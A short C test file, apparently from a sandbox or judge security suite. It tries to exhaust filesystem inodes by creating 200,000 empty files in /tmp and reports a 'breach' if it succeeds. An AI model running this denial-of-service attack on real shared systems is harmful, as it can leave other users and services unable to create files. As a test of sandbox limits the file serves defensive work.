/*
 * Empty files take no space but inodes.
 *
 * limits: cpu=5000 wall=9000
 * weak: wipe
 */
#include "attack.h"
int main(void) {
  char name[32];
  for (int i = 0; i < 200000; i++) {
    snprintf(name, sizeof name, "/tmp/%d", i);
    if (mknod(name, S_IFREG | 0600, 0)) return 0;
  }
  breach("200,000 files");
}
